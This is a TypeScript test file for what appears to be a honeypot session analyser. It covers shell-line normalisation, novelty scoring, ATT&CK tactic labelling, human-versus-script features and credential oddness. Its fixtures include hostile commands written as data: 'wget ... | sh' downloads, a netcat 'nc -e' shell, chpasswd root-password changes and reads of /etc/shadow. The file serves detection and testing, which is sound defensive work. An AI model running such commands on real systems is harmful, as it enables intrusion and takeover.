import { describe, expect, it } from 'vitest';
import { actorFeatures } from './actor-features.ts';
import { loadCatalogue } from './attack/catalogue.ts';
import { countCredentials, credentialsOf } from './credential-model.ts';
import { tacticOf } from './judge-session.ts';
import { gatherShapes, knownShapesOf } from './known-shapes.ts';
import { lineShape } from './line-shape.ts';
import { countSequences, sequenceModelOf } from './sequence-model.ts';
import { readShell } from './shell/read-shell.ts';
import { typedStatements } from './statement-texts.ts';

const shapeOf = (line: string) => lineShape(readShell(line));

describe('a shape leaves out what changes from one visitor to the next', () => {
  it.each([
    ['wget http://192.0.2.1/a.sh', 'wget http://198.51.100.7:8080/x86_64'],
    ['echo "root:pXg7kQw2LmNb"|chpasswd|bash', 'echo "root:qvRt81ZzpLkJ"|chpasswd|bash'],
    ['scp -t /tmp/Muw3fuvA', 'scp -t /tmp/CaW87HUGx'],
    ['echo -e "abc\\nQwErTy12\\nQwErTy12"|passwd', 'echo -e "x1\\nZZtop99x\\nZZtop99x"|passwd'],
    ['ping -c 3 192.0.2.1', 'ping -c 5 198.51.100.9'],
  ])('%s is of the shape of %s', (one, other) => {
    expect(shapeOf(one)).toBe(shapeOf(other));
  });

  it.each([
    ['cat /etc/passwd', 'cat /etc/shadow'],
    ['ls -la', 'ls -R'],
    ['uname -a', 'uname -a | sh'],
  ])('%s is not of the shape of %s', (one, other) => {
    expect(shapeOf(one)).not.toBe(shapeOf(other));
  });
});

describe('novelty', () => {
  const known = knownShapesOf(gatherShapes([['uname', 'ls', 'wget URL']], 'v'));
  const usual = ['uname', 'ls', 'wget URL', 'chmod 0 WORD', 'sh WORD'];
  const others = Array.from({ length: 40 }, (_, at) => [`id ${at}`, 'ls', 'cat /etc/passwd', 'exit']);
  const model = sequenceModelOf(countSequences([usual, ...others], 'v'));

  it('counts the share of shapes that were never seen', () => {
    expect(known.unknownShare(['uname', 'never', 'ls', 'nor this'])).toBe(0.5);
  });

  it('grows from what is usual, over a new order and a new shape of a known command, to what was never seen', () => {
    const asSeen = model.tell(usual).novelty;
    const newOrder = model.tell(['sh WORD', 'uname', 'chmod 0 WORD', 'wget URL', 'ls']).novelty;
    const newShape = model.tell(['uname -z', 'ls -z', 'wget -z', 'chmod -z', 'sh -z']).novelty;
    const never = model.tell(['never', '__proto__', 'constructor', 'x', 'y']).novelty;
    expect(asSeen).toBeLessThan(0.2);
    expect(newOrder).toBeGreaterThan(asSeen + 0.1);
    expect(newShape).toBeGreaterThan(newOrder + 0.1);
    expect(never).toBeGreaterThan(newShape);
    expect(never).toBeLessThanOrEqual(1);
    expect(model.tell([])).toEqual({ novelty: 0, perplexity: 1, oddest: -1, why: null });
  });

  it('points at the statement that surprised most, and hesitates longer before it', () => {
    const told = model.tell(['id 3', 'ls', 'nc -e IP', 'exit']);
    expect(told.oddest).toBe(2);
    expect(told.perplexity).toBeGreaterThan(model.tell(['id 3', 'ls', 'cat /etc/passwd', 'exit']).perplexity);
  });

  it('says in words what was new, of a command, a way of using it and an order, and nothing where all was seen', () => {
    expect(model.tell(usual).why).toBeNull();
    expect(model.tell(['uname', 'ls', 'zz WORD']).why).toBe(
      'of 3 statements 1 never seen; most surprising is statement 3, “zz WORD”: a command that was never seen',
    );
    expect(model.tell(['ls -z']).why).toContain('“ls -z”: a known command never seen so');
    expect(model.tell(['sh WORD', 'uname']).why).toMatch(
      /^of 2 statements none is new, .* never seen after what stands/,
    );
    expect(model.tell(['a\u0000\u202eb']).why).toContain('“a\\u0000\\u202eb”');
  });

  it('ten copies of one script teach no more than one', () => {
    expect(
      countSequences(
        Array.from({ length: 10 }, () => usual),
        'v',
      ),
    ).toEqual(countSequences([usual], 'v'));
  });
});

describe('who names the tactic of a statement', () => {
  const rule = { tactic: 'Exfiltration', confidence: 0.8 };

  it.each([
    ['a sure model, in a session of known shapes', { tactic: 'Discovery', confidence: 0.9 }, rule, 0, 'Discovery'],
    ['an unsure model, where a rule is surer', { tactic: 'Discovery', confidence: 0.4 }, rule, 0, 'Exfiltration'],
    ['an unsure model, where no rule answers', { tactic: 'Discovery', confidence: 0.4 }, null, 1, 'Discovery'],
    ['a rule, in a session of shapes never seen', { tactic: 'Discovery', confidence: 0.95 }, rule, 0.9, 'Exfiltration'],
    [
      'the model, for a payload that is fetched',
      { tactic: 'Execution', confidence: 0.5 },
      { ...rule, tactic: 'Command and Control' },
      1,
      'Execution',
    ],
    ['the model, where it is sure of Other', { tactic: 'Other', confidence: 0.7 }, rule, 1, 'Other'],
  ])('%s', (_description, told, byRule, unknownShare, tactic) => {
    expect(tacticOf(told, byRule, unknownShare)).toBe(tactic);
  });
});

it('a line is told apart into its statements, each with its place and the operator after it', () => {
  expect(typedStatements('cd /tmp && wget http://192.0.2.1/a | sh; for i in 1 2; do id; done')).toEqual([
    { text: 'cd /tmp', start: 0, separator: '&&' },
    { text: 'wget http://192.0.2.1/a', start: 11, separator: '|' },
    { text: 'sh', start: 37, separator: ';' },
  ]);
  expect(typedStatements('')).toEqual([{ text: '', start: 0, separator: ';' }]);
});

describe('the catalogue', () => {
  const catalogue = loadCatalogue(new URL('../../../policy/attack/catalogue.json', import.meta.url).pathname);

  it('knows names, tactics and the way to v19', () => {
    expect(catalogue.techniqueName('T1110.001')).toBe('Password Guessing');
    expect(catalogue.tacticsOf('T1562.001')).toContain('Defense Evasion');
    expect(catalogue.toV19('T1562.004')).toMatch(/^T168/);
    expect(catalogue.toV19('T1105')).toBe('T1105');
    expect(catalogue.tacticsOf('__proto__')).toEqual([]);
  });

  it('says which file is missing', () => {
    expect(() => loadCatalogue('absent.json')).toThrow(/ATT&CK catalogue at absent.json/);
  });
});

it('mending the line before and looking around are what people do', () => {
  const person = actorFeatures({
    commands: ['ls', 'cat /etc/pasword', 'cat /etc/password', 'cat /etc/passwd', 'clear'],
  });
  const script = actorFeatures({ commands: ['cd /tmp; wget http://192.0.2.1/a; sh a', 'uname -a; id'] });
  expect([...person]).toContain('almost:many');
  expect([...script]).toContain('almost:none');
});

it('a person pauses to read, type and think; a script does not, and nothing is made of times that are not known', () => {
  const commands = ['id', 'w', 'ls', 'cat x', 'exit'];
  expect([...actorFeatures({ commands, epochsMs: [0, 9_000, 14_000, 52_000, 60_000] })]).toEqual(
    expect.arrayContaining(['pause:reading', 'quick:none', 'steady:false']),
  );
  expect([...actorFeatures({ commands, epochsMs: [0, 20, 41, 60, 85] })]).toEqual(
    expect.arrayContaining(['pause:none', 'quick:all', 'steady:true']),
  );
  expect([...actorFeatures({ commands })]).toContain('pause:unknown');
});

describe('credentials', () => {
  const tried = [
    { username: 'root', password: '123456', count: 900 },
    { username: 'admin', password: 'admin', count: 30 },
    { username: '__proto__', password: 'a:b c', count: 1 },
  ];
  const credentials = credentialsOf(countCredentials(tried, 'v'));

  it('are the odder the less often pair, name and password were tried', () => {
    const oddness = [
      credentials.oddness('root', '123456'),
      credentials.oddness('admin', 'admin'),
      credentials.oddness('__proto__', 'a:b c'),
      credentials.oddness('root', 'admin'),
      credentials.oddness('root', 'Xk8!never'),
      credentials.oddness('nobody-tried', 'Xk8!never'),
    ];
    expect(oddness).toEqual([...oddness].sort((a, b) => a - b));
    expect(new Set(oddness).size).toBe(oddness.length);
    expect([oddness.at(0), oddness.at(-1)]).toEqual([0, 1]);
  });

  it('are not to be read from the model', () => {
    expect(JSON.stringify(countCredentials(tried, 'v'))).not.toMatch(/root|123456|admin/);
  });
});
